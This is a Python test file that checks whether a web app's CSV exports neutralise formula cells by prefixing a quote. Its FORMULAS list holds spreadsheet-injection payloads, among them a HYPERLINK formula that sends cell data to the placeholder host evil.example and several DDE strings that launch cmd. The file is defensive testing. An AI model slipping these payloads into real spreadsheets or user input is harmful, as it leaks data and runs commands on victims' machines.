"""CSV exports neutralise formula cells (OWASP): text starting with = + - @ tab or CR gets a
leading quote, so Excel and WPS show it as text; plain numbers (negative ones too) stay numbers."""

from __future__ import annotations

import csv
import io
from typing import Any

from fastapi.testclient import TestClient
from sqlmodel import Session

from app.economics.exports import to_csv
from tests import factories
from tests.figures import record

FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "-",
    "-x",
    "+",
)


def _cells(raw: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


def test_to_csv_neutralises_formulas_and_keeps_numbers() -> None:
    rows = _cells(to_csv(["a"], [[text] for text in FORMULAS]))[1:]
    for (cell,), text in zip(rows, FORMULAS, strict=True):
        assert cell == "'" + text
    numbers = _cells(to_csv(["a", "b", "c", "d"], [["-12.50", -3, "-0.5", "1e5"]]))[1]
    assert numbers[:3] == ["-12.50", "-3", "-0.5"]
    assert numbers[3] == "1e5"


def test_every_export_neutralises_what_users_typed(
    signed_in: TestClient, db: Session, user: Any
) -> None:
    tried = failed = 0
    for formula in FORMULAS:
        brand = factories.brand(db, user, name=formula)
        deal = factories.deal(
            db, user, brand_id=brand.id, title=formula, notes=formula, agreed_fee="100"
        )
        factories.work(db, deal, note=formula)
        factories.part(db, deal, "payments", gross="10", received_on="2026-01-01", note=formula)
    for kind in ("deals", "work", "payments"):
        response = signed_in.get(f"/export/{kind}.csv?period=all")
        assert response.status_code == 200
        for row in _cells(response.content)[1:]:
            for cell in row:
                tried += 1
                if cell[:1] in {"=", "+", "@", "\t", "\r"} or (
                    cell[:1] == "-" and not cell.lstrip("-").replace(".", "", 1).isdigit()
                ):
                    failed += 1
    record("CSV formula cells × every export → left live", tried, failed)
    assert failed == 0
    assert tried > 50
